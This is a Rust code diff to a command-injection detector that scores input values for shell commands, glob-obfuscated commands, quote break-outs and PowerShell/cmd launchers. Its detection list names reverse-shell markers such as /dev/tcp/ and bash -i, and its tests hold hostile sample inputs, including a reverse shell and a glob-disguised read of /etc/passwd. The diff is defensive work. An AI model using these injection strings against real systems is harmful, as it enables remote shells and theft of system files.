@@ -442,6 +442,27 @@ fn base_cmd(w: &str) -> (&str, bool) {
     (name, had_path)
 }
 
+/// The known command a shell glob in command position expands to (`ca?`, `wh*i`), if one.
+fn glob_command(pattern: &str) -> Option<&'static str> {
+    fn matches(p: &[u8], w: &[u8]) -> bool {
+        match (p.first(), w.first()) {
+            (None, None) => true,
+            (Some(b'*'), _) => matches(&p[1..], w) || (!w.is_empty() && matches(p, &w[1..])),
+            (Some(b'?'), Some(_)) => matches(&p[1..], &w[1..]),
+            (Some(a), Some(b)) if a == b => matches(&p[1..], &w[1..]),
+            _ => false,
+        }
+    }
+    // a pattern of wildcards alone (`*`, `??`) names no command in particular
+    if pattern.len() > 16 || pattern.bytes().filter(|c| c.is_ascii_alphanumeric()).count() < 2 {
+        return None;
+    }
+    STRONG
+        .iter()
+        .copied()
+        .find(|c| matches(pattern.as_bytes(), c.as_bytes()))
+}
+
 fn shellish(arg: &str) -> bool {
     let a = arg;
     (a.starts_with('-') && a.len() > 1 && a.len() < 30 && !a[1..].starts_with(' '))
@@ -566,26 +587,93 @@ pub fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
         return;
     }
     let mut best: (u32, &'static str, usize) = (0, "", 0);
-    let segs = lex(s);
     let prose = util::prose_ratio(s) > 0.8 && s.len() > 50;
+    score_segments(s, &lex(s), 0, prose, &mut best);
+    // break-out: the value lands inside a quoted argument (`ping '$host'`), and a quote of its own
+    // that has no partner, or one that opens the value (`" | cmd | "`), closes that argument; what
+    // follows it runs as shell
+    for q in [b'\'', b'"'] {
+        let b = s.as_bytes();
+        let opens = s.trim_start().as_bytes().first() == Some(&q);
+        if opens || memchr::memchr_iter(q, b).count() % 2 == 1 {
+            let p = memchr::memchr(q, b).unwrap_or(0) + 1;
+            score_segments(&s[p..], &lex(&s[p..]), p, prose, &mut best);
+        }
+    }
+    if let Some((sc, at)) = windows_batch(s) {
+        if sc > best.0 {
+            best = (sc, "RCE-002", at);
+        }
+    }
+    // PowerShell / cmd launchers with their tell-tale flags (one pass for
+    // all of them)
+    const LAUNCHERS: [(&str, u32); 14] = [
+        ("powershell -e", 8),
+        ("powershell.exe -", 8),
+        ("-encodedcommand", 8),
+        ("cmd /c", 8),
+        ("cmd.exe /c", 8),
+        ("cmd /k", 8),
+        ("cmd.exe /k", 8),
+        ("downloadstring(", 8),
+        ("invoke-expression", 8),
+        ("/dev/tcp/", 9),
+        ("/dev/udp/", 9),
+        ("0<&196", 9),
+        ("bash -i", 8),
+        ("sh -i", 6),
+    ];
+    let at = crate::first_of!(LAUNCHERS.map(|(p, _)| p); LAUNCHERS.len()).positions(s);
+    for ((_, sc), p) in LAUNCHERS.iter().zip(at) {
+        if let Some(p) = p {
+            if *sc > best.0 {
+                best = (*sc, "RCE-003", p);
+            }
+        }
+    }
+    if best.0 > 0 {
+        out.push(Hit::new(
+            AttackClass::Rce,
+            best.1,
+            best.0,
+            util::excerpt_at(ctx.value, best.2, 80),
+        ));
+    }
+}
+
+/// Score the commands of `segs` (lexed from `s`, which starts at byte `offset` of the value) into `best`.
+fn score_segments(s: &str, segs: &[Seg], offset: usize, prose: bool, best: &mut (u32, &'static str, usize)) {
     for (idx, seg) in segs.iter().enumerate() {
         let Some(first) = seg.words.first() else {
             continue;
         };
-        let (name, had_path) = base_cmd(first);
-        let known = strong_set().contains(name);
-        if !known {
+        let (mut name, had_path) = base_cmd(first);
+        let mut globbed = false;
+        if !strong_set().contains(name) && name.contains(['?', '*']) {
+            // `/bin/ca?`, `/usr/bin/wh*mi`: the shell expands the pattern to the command
+            if let Some(m) = glob_command(name) {
+                name = m;
+                globbed = true;
+            }
+        }
+        let args = &seg.words[1..];
+        // `/usr/bin/anything -x ...`, also after an assignment (`cmd=/bin/unxz -c f`): a program named
+        // by its path in a system binary directory, with arguments or after a separator
+        let program = first.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
+        let program = program.strip_prefix('=').unwrap_or(first);
+        let binpath_program = SENSITIVE_BINPATH.iter().any(|p| program.starts_with(p))
+            && (!args.is_empty() || seg.sep != Some(Sep::Start));
+        if !strong_set().contains(name) && !binpath_program {
             continue;
         }
         let weak = weak_set().contains(name);
-        let args = &seg.words[1..];
         let shell_args = args.iter().any(|a| shellish(a)) || seg.redirect;
         let next_is_cmd = segs
             .get(idx + 1)
             .and_then(|x| x.words.first())
             .is_some_and(|w| strong_set().contains(base_cmd(w).0));
         let sep = seg.sep.unwrap_or(Sep::Start);
-        let binpath = had_path && SENSITIVE_BINPATH.iter().any(|p| first.contains(p));
+        let binpath = had_path && SENSITIVE_BINPATH.iter().any(|p| first.contains(p)) || binpath_program;
         let mut sc: u32 = match sep {
             Sep::Subst => {
                 if !weak || shell_args || args.is_empty() {
@@ -648,54 +736,15 @@ pub fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
         if binpath {
             sc = sc.max(8);
         }
-        if seg.obfuscated && sc > 0 {
+        if (seg.obfuscated || globbed) && sc > 0 {
             sc += 3;
         }
         if prose && sep != Sep::Subst {
             sc = sc.saturating_sub(4);
         }
         if sc > best.0 {
-            best = (sc, "RCE-001", seg.start);
+            *best = (sc, "RCE-001", offset + seg.start);
         }
-    }
-    if let Some((sc, at)) = windows_batch(s) {
-        if sc > best.0 {
-            best = (sc, "RCE-002", at);
-        }
-    }
-    // PowerShell / cmd launchers with their tell-tale flags (one pass for
-    // all of them)
-    const LAUNCHERS: [(&str, u32); 14] = [
-        ("powershell -e", 8),
-        ("powershell.exe -", 8),
-        ("-encodedcommand", 8),
-        ("cmd /c", 8),
-        ("cmd.exe /c", 8),
-        ("cmd /k", 8),
-        ("cmd.exe /k", 8),
-        ("downloadstring(", 8),
-        ("invoke-expression", 8),
-        ("/dev/tcp/", 9),
-        ("/dev/udp/", 9),
-        ("0<&196", 9),
-        ("bash -i", 8),
-        ("sh -i", 6),
-    ];
-    let at = crate::first_of!(LAUNCHERS.map(|(p, _)| p); LAUNCHERS.len()).positions(s);
-    for ((_, sc), p) in LAUNCHERS.iter().zip(at) {
-        if let Some(p) = p {
-            if *sc > best.0 {
-                best = (*sc, "RCE-003", p);
-            }
-        }
-    }
-    if best.0 > 0 {
-        out.push(Hit::new(
-            AttackClass::Rce,
-            best.1,
-            best.0,
-            util::excerpt_at(ctx.value, best.2, 80),
-        ));
     }
 }
 
@@ -730,6 +779,14 @@ mod tests {
             "for /l %v in (1,1,2) do command",
             "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
             "cmd /c whoami",
+            // a quote of its own closes the quoted argument the value lands in
+            "me@example.com'|ping -c 3 127.0.0.1 #",
+            "\" | type %SystemDrive%\\config.ini | \"",
+            // globs the shell expands to a command
+            "example.com;/bin/ca? /et*/passwd",
+            "x|/usr/bin/wh*mi",
+            // a program named by its path, also after an assignment
+            "cmd=/bin/unxz -c /var/log/app.xz",
         ] {
             assert!(score(a) >= 5, "{a}: {}", score(a));
         }
@@ -745,6 +802,10 @@ mod tests {
             "Please echo my concerns to the team; thanks",
             "if you like it, then buy it",
             "red, green & blue",
+            "It's great; cat lovers will love it",
+            "O'Brien | Sales",
+            "interpreter: /usr/bin/python3",
+            "What's *new*? See the docs",
         ] {
             assert!(score(b) < 5, "{b}: {}", score(b));
         }
